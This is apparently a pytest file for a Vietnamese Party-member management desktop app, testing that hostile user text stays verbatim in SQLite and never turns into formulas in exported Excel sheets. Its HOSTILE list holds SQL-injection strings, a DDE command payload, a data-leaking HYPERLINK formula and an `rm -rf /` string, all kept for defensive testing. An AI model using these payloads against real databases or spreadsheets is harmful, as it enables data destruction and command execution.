"""Hostile text: SQL kept verbatim, spreadsheet formulas never written from user text."""

from __future__ import annotations

import datetime as dt
import sqlite3
from pathlib import Path

import pytest
from openpyxl import load_workbook

from chibo_desktop.cli import main
from chibo_desktop.domain.members import Member
from chibo_desktop.services.members.register import get_member, save_member, search

SQL = "'); DROP TABLE members;--"
HOSTILE = [
    SQL,
    '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+84 912 345 678",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    'Robert"); DELETE FROM cell; --',
    "%s %d {0} ${HOME} `rm -rf /`",
]
FREE_TEXT = {
    "members": ["full_name", "birth_name", "hometown", "address", "job_now", "notes"],
    "cell": ["name", "party_committee", "place", "secretary_name"],
    "member_status": ["decision", "note"],
    "meetings": ["title", "topic", "presenter", "place", "chair_name", "secretary_name"],
    "attendance": ["reason", "name"],
    "meeting_agenda": ["title", "content", "conclusion"],
    "meeting_discussions": ["speaker", "text"],
    "meeting_resolutions": ["text"],
    "meeting_guests": ["name", "role"],
    "meeting_documents": ["title"],
    "campaigns": ["title", "assessment", "proposals"],
    "campaign_steps": ["note"],
    "campaign_marks": ["note"],
    "assessments": ["notes"],
}


def test_sql_text_is_stored_verbatim(db, today):
    member = Member(full_name="Nguyễn Thị Hoa", gender="Nữ", notes=SQL, address="12' OR '1'='1")
    member_id = save_member(db, member, today=today).value
    stored = get_member(db, member_id).member
    assert stored.notes == SQL and stored.address == "12' OR '1'='1"
    assert {"members", "cell", "change_log"} <= set(db.table_names())
    assert db.execute("SELECT count(*) FROM members").fetchone()[0] == 1
    for text in [*HOSTILE, '"', "*", "NEAR(", "a OR b", "-x", "^", "Hoa\x07"]:
        search(db, text)  # FTS syntax in user text never raises
    assert search(db, "hoa") == [member_id]


def test_search_with_a_nul_character_finds_as_without_it(db, today):
    member_id = save_member(db, Member(full_name="Nguyễn Văn An", gender="Nam"), today=today).value
    assert search(db, "Nguyễn\x00") == [member_id]


def test_control_characters_are_stripped_and_text_nfc(db, today):
    decomposed = "Nguye\u0302\u0303n Va\u0306n A\u0300n\x00\x07"
    member_id = save_member(db, Member(full_name=decomposed, gender="Nam"), today=today).value
    name = get_member(db, member_id).member.full_name
    assert name == "Nguyễn Văn Àn"


def poison(path: Path) -> int:
    """Put hostile strings into every free-text column that exists."""
    conn = sqlite3.connect(path)
    tables = {r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type='table'")}
    touched = 0
    for table, columns in FREE_TEXT.items():
        if table not in tables:
            continue
        existing = {r[1] for r in conn.execute(f'PRAGMA table_info("{table}")')}
        for column in columns:
            if column not in existing:
                continue
            n = len(HOSTILE)
            cases = " ".join(f"WHEN {i} THEN ?" for i in range(n))
            conn.execute(
                f'UPDATE "{table}" SET "{column}" = CASE abs(rowid) % {n} {cases} END',
                HOSTILE,
            )
            touched += conn.execute(f'SELECT count(*) FROM "{table}"').fetchone()[0]
    conn.commit()
    conn.close()
    return touched


def exports(db: Path, out: Path) -> list[Path]:
    """Every spreadsheet the program can write, through the command line."""
    produced = []
    conn = sqlite3.connect(db)
    tables = {r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type='table'")}
    years = []
    if "meetings" in tables:
        years = sorted({int(r[0][:4]) for r in conn.execute("SELECT date FROM meetings")})
    campaigns = (
        [r[0] for r in conn.execute("SELECT id FROM campaigns")] if "campaigns" in tables else []
    )
    conn.close()
    jobs = []
    from chibo_desktop.cli.reports import NAMES

    start, end = "2000-01-01", "2026-12-31"
    jobs += [["report", name, "--from", start, "--to", end] for name in NAMES]
    jobs += [["meetings", "attendance", str(y)] for y in years]
    jobs += [["campaign", "report", str(c)] for c in campaigns]
    for index, job in enumerate(jobs):
        target = out / f"export_{index}.xlsx"
        code = main(["--db", str(db), *job, str(target)])
        assert code == 0, job
        produced.append(target)
    return produced


def formula_cells(path: Path) -> list[str]:
    found = []
    for ws in load_workbook(path).worksheets:  # not data_only: formulas stay formulas
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (
                    isinstance(cell.value, str) and cell.data_type != "s" and cell.value[:1] == "="
                ):
                    found.append(f"{ws.title}!{cell.coordinate}={cell.value!r}")
    return found


@pytest.mark.slow
def test_no_export_turns_user_text_into_a_formula(demo_path, tmp_path, capsys):
    assert poison(demo_path) > 100
    files = exports(demo_path, tmp_path)
    from chibo_desktop.services.members.changelog import export_changes
    from chibo_desktop.storage.database import open_database

    db = open_database(demo_path)
    files.append(export_changes(db, tmp_path / "nhat_ky.xlsx"))
    db.close()
    assert len(files) >= 6
    seen_hostile = 0
    for path in files:
        assert formula_cells(path) == [], path.name
        for ws in load_workbook(path).worksheets:
            for row in ws.iter_rows(values_only=True):
                seen_hostile += sum(1 for v in row if isinstance(v, str) and v[:1] in "=+-@")
    assert seen_hostile > 20  # the hostile strings did reach the workbooks, as text


def test_import_error_report_keeps_hostile_cells_as_text(db_path, tmp_path, capsys):
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.append(["STT", "Họ và tên", "Ngày sinh", "Ngày vào Đảng", "Ghi chú"])
    for i, text in enumerate(HOSTILE, start=1):
        ws.append([i, text, "99/99/9999", "không rõ", text])
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            cell.data_type = "s" if isinstance(cell.value, str) else cell.data_type
    source = tmp_path / "danh_sach.xlsx"
    wb.save(source)
    errors = tmp_path / "loi.xlsx"
    main(["--db", str(db_path), "members", "import", str(source), "--errors", str(errors)])
    assert errors.exists()
    assert formula_cells(errors) == []


def test_dates_and_numbers_in_exports_are_values_not_formulas(demo_path, tmp_path, capsys):
    files = exports(demo_path, tmp_path)
    for path in files:
        assert formula_cells(path) == []
    assert any(
        isinstance(v, dt.datetime | int)
        for path in files
        for ws in load_workbook(path).worksheets
        for row in ws.iter_rows(values_only=True)
        for v in row
    )
